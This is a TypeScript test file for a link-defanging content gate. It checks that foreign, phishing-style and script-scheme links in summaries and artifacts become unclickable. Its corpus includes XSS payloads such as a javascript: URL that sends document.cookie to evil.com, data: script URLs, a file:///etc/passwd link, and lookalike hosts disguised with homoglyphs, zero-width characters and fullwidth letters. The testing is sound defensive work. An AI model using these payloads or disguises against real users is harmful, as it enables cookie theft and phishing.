import { LinkifyIt } from 'linkify-it';
import { describe, expect, it } from 'vitest';
import { foldForScan } from '../scan/normalize.js';
import { checkArtifact, defang, defangLinks, gateContent, hostAllowed } from './content.js';

const ALLOWED = ['example.com'];
const OPTS = { secrets: 'mask' as const, allowed_link_domains: ALLOWED, detail_max_chars: 20_000 };

/**
 * The oracle is another link finder than the one under test: linkify-it (markdown-it's, which many
 * chat front-ends and forum renderers use) in its most eager mode, plus the schemes and forms a client
 * may open on its own. A link counts as clickable and foreign when it opens a host off the allow-list,
 * or opens no host at all (`javascript:`, `data:`, an app's scheme).
 */
const eager = new LinkifyIt({ fuzzyLink: true, fuzzyEmail: true, fuzzyIP: true });
const RUNNABLE = /(?<![\w[])(?:javascript|vbscript|data|file|blob|tel|sms|mailto)\s*:(?!\])/i;
const APP_SCHEME = /(?<![\w[])[a-z][a-z0-9+.-]{1,31}:\/\/(?!\])/gi;
const PROTOCOL_RELATIVE = /(?<![:\w/\\[])\/\/[\w-]+\.[\w.-]+/;

function hostOf(url: string): string | undefined {
  try {
    return new URL(url).hostname || undefined;
  } catch {
    return undefined;
  }
}

/** Every clickable link in `text` that does not open an allowed host, as the oracle reads it. */
function foreignClickable(text: string): string[] {
  const out: string[] = [];
  for (const variant of [text, foldForScan(text)]) {
    for (const m of eager.match(variant) ?? []) {
      const host = m.schema === 'mailto:' ? m.url.split('@').pop() : hostOf(m.url);
      const web = /^(?:https?:|\/\/|)$/.test(m.schema) || m.schema === 'mailto:';
      if (!host || !web || !hostAllowed(host, ALLOWED)) out.push(m.raw);
    }
    const runnable = RUNNABLE.exec(variant);
    if (runnable) out.push(runnable[0]);
    for (const m of variant.matchAll(APP_SCHEME)) {
      // The defanged spellings (hxxps://, fxp://) are the convention for "not a link" (RFC-less but universal).
      if (!/^(?:https?|hxxps?|fxps?|fxle):\/\/$/i.test(m[0])) out.push(m[0]);
    }
    const rel = PROTOCOL_RELATIVE.exec(variant);
    if (rel && !hostAllowed(rel[0].slice(2).split('/')[0]!, ALLOWED)) out.push(rel[0]);
  }
  return out;
}

const HOSTS = [
  'evil.example',
  'evil.com',
  'examp1e-login.com',
  'example.com.evil.test',
  'badexample.com',
  'xn--80ak6aa92e.com',
  '\u0430pple.com',
  '10.0.0.1',
  'localhost:3000',
];
const FORMS = [
  'https://{h}/reset',
  'http://{h}/x',
  'HTTPS://{H}/RESET',
  'hTtPs://{h}/x',
  '//{h}/x',
  '{h}/reset',
  'www.{h}',
  'ftp://{h}/a',
  'https://example.com@{h}/',
  'https://{h}#@example.com',
  'https:/{h}/x',
  'https:\\\\{h}\\x',
  '<https://{h}|click here>',
  '[click](https://{h}/x)',
  '(see https://{h}/x).',
  '"https://{h}/x"',
  'mail ops@{h} now',
  'mailto:ops@{h}',
  'https://{h}:8443/login?next=/',
];
const SCHEMES = [
  'javascript:alert(1)',
  "javascript:fetch('//evil.com/'+document.cookie)",
  'JaVaScRiPt:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'slack://open?team=T1',
  'tg://resolve?domain=evil',
  'tel:+15551234567',
  'README.md',
];
const DISGUISES: [string, (s: string) => string][] = [
  ['as written', (s) => s],
  ['with a zero-width space in the host', (s) => s.replace(/\./, '\u200b.')],
  ['with a soft hyphen', (s) => s.replace(/\./, '.\u00ad')],
  ['in fullwidth letters', (s) => s.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))],
  ['with ideographic full stops', (s) => s.replaceAll('.', '\u3002')],
];

const links = [
  ...HOSTS.flatMap((h) => FORMS.map((f) => f.replaceAll('{h}', h).replaceAll('{H}', h.toUpperCase()))),
  ...SCHEMES,
];
const corpus = links.flatMap((l) => DISGUISES.map(([how, d]) => [how, d(l)] as const));

describe('foreign links stay unclickable', () => {
  it(`leaves 0 clickable foreign links in summaries, details and artifacts (${corpus.length} links)`, () => {
    const clickable: string[] = [];
    for (const [how, link] of corpus) {
      const out = gateContent(
        { summary: `see ${link}`.slice(0, 120), detail: `details: ${link} and more`, artifact: link },
        OPTS,
      );
      if (out.kind !== 'ok') throw new Error('no secrets in this corpus');
      for (const field of [out.content.summary, out.content.detail ?? '']) {
        for (const c of foreignClickable(field)) clickable.push(`${how}: ${link} → ${c}`);
      }
      // Only an https link on an allowed host may become the artifact button.
      expect(out.content.artifact).toBeUndefined();
    }
    expect(clickable).toEqual([]);
  });

  it('keeps links on an allowed domain clickable (the oracle sees them)', () => {
    const text = 'see https://ci.example.com/run/1, docs.example.com/guide and ops@example.com';
    const out = defangLinks(text, ALLOWED);
    expect(out).toEqual({ text, defanged: 0 });
    expect(eager.match(out.text)?.length).toBe(3);
    expect(foreignClickable(out.text)).toEqual([]);
  });

  it('makes every corpus link readable: the host is still there, only its dots or its colon are changed', () => {
    expect(defang('javascript:alert(1)')).toBe('javascript[:]alert(1)');
    expect(defang('data:text/html,<b>x</b>')).toBe('data[:]text/html,<b>x</b>');
    expect(defang('//evil.example/x')).toBe('//evil[.]example/x');
    expect(defang('evil.example/reset')).toBe('evil[.]example/reset');
    expect(defang('ops@evil.com')).toBe('ops@evil[.]com');
    expect(defang('mailto:ops@evil.com')).toBe('mailto[:]ops@evil[.]com');
    expect(defang('https://ev\u200bil\u3002com/x')).toBe('hxxps://evil[.]com/x');
  });

  it('accepts an artifact only when it is https on an allowed domain', () => {
    expect(checkArtifact('https://ci.example.com/run/1', ALLOWED)).toMatchObject({ kind: 'ok' });
    for (const [link, reason] of [
      ['http://ci.example.com/run/1', 'scheme'],
      ['javascript:alert(1)', 'scheme'],
      ['data:text/html,x', 'scheme'],
      ['//ci.example.com/run/1', 'not_a_url'],
      ['ci.example.com/run/1', 'not_a_url'],
      ['https://evil.com/run/1', 'domain'],
      ['https://example.com@evil.com/', 'credentials'],
      ['https://user:pw@ci.example.com/', 'credentials'],
    ] as const) {
      expect(checkArtifact(link, ALLOWED), link).toMatchObject({ kind: 'refused', reason });
    }
  });
});
